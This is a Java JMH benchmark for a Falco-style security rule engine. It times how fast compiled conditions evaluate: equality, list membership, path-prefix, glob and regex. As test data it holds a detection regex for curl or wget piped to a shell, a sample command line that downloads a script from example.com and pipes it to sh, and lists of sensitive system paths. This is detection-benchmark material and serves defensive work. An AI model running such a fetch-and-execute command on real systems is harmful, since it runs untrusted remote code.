package dev.falco4j.bench;

import dev.falco4j.bench.dsl.BenchEvent;
import dev.falco4j.bench.dsl.BenchFieldResolver;
import dev.falco4j.dsl.CompiledCondition;
import dev.falco4j.dsl.ConditionCompiler;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;

/**
 * Evaluation cost of compiled conditions on a prepared event (field values already decoded, as the
 * engine's per-event cache provides them). Run with {@code -prof gc}: every method shows about
 * 0 B/op. {@link #regex()} is a matching value (required literals present, answered by the
 * precomputed automaton); {@link #regexPrefilterReject()} the usual case where the required-literal
 * search rejects the value first.
 *
 * <pre>java -jar benchmarks/target/benchmarks.jar ConditionEval -f 1 -wi 3 -i 3 -w 1 -r 1 -prof gc</pre>
 */
@State(Scope.Thread)
@BenchmarkMode(Mode.AverageTime)
@OutputTimeUnit(TimeUnit.NANOSECONDS)
public class ConditionEvalBenchmark {

    private CompiledCondition<BenchEvent> eventTypeOnly;
    private CompiledCondition<BenchEvent> simpleComparison;
    private CompiledCondition<BenchEvent> in50;
    private CompiledCondition<BenchEvent> pmatch;
    private CompiledCondition<BenchEvent> glob;
    private CompiledCondition<BenchEvent> regex;
    private CompiledCondition<BenchEvent> typicalRule;

    /** Not final, so the JIT cannot fold the events away. */
    private BenchEvent event;
    /** An event whose command line the regex's required literals already rule out (the common case). */
    private BenchEvent quietEvent;

    @Setup
    public void setup() {
        ConditionCompiler<BenchEvent> compiler = ConditionCompiler.create(new BenchFieldResolver());
        eventTypeOnly = compiler.compile("evt.type = openat").conditionOrThrow();
        simpleComparison = compiler.compile("proc.name = nginx").conditionOrThrow();
        List<String> names = new ArrayList<>();
        for (int i = 0; i < 49; i++) {
            names.add("proc" + i);
        }
        names.add("nginx");
        in50 = compiler.compile("proc.name in (" + String.join(", ", names) + ")").conditionOrThrow();
        pmatch = compiler.compile("fd.name pmatch (/bin, /sbin, /usr/bin, /usr/sbin, /usr/local/bin, /usr/lib, "
                + "/lib, /lib64, /opt/app, /var/lib/dpkg, /var/lib/rpm, /boot, /root/.ssh, /etc/ssh, /etc/pam.d, "
                + "/etc/sudoers.d, /etc/cron.d, /var/spool/cron, /etc/systemd, /etc/init.d)").conditionOrThrow();
        glob = compiler.compile("fd.name glob '/etc/*/sshd_*'").conditionOrThrow();
        regex = compiler.compile("proc.cmdline regex '(curl|wget) .*\\\\|\\\\s*(ba)?sh'").conditionOrThrow();
        typicalRule = compiler.compile("evt.type in (open, openat) and fd.name pmatch (/etc/ssh, /root/.ssh) "
                + "and not proc.name in (sshd, ssh-keygen, systemd) and fd.sport != 22").conditionOrThrow();
        event = new BenchEvent(2, "nginx", "curl -s http://example.com/x.sh | sh", "/etc/ssh/sshd_config", 8080);
        quietEvent = new BenchEvent(2, "nginx", "nginx: worker process -g daemon off;", "/var/log/nginx/access.log", 80);
    }

    @Benchmark
    public boolean baselineEventType() {
        return eventTypeOnly.test(event);
    }

    @Benchmark
    public boolean simpleComparison() {
        return simpleComparison.test(event);
    }

    @Benchmark
    public boolean in50Items() {
        return in50.test(event);
    }

    @Benchmark
    public boolean pmatch20Prefixes() {
        return pmatch.test(event);
    }

    @Benchmark
    public boolean glob() {
        return glob.test(event);
    }

    @Benchmark
    public boolean regex() {
        return regex.test(event);
    }

    /** The same regex on a value without its required literals: rejected before RE2/J runs. */
    @Benchmark
    public boolean regexPrefilterReject() {
        return regex.test(quietEvent);
    }

    @Benchmark
    public boolean typicalRule() {
        return typicalRule.test(event);
    }
}
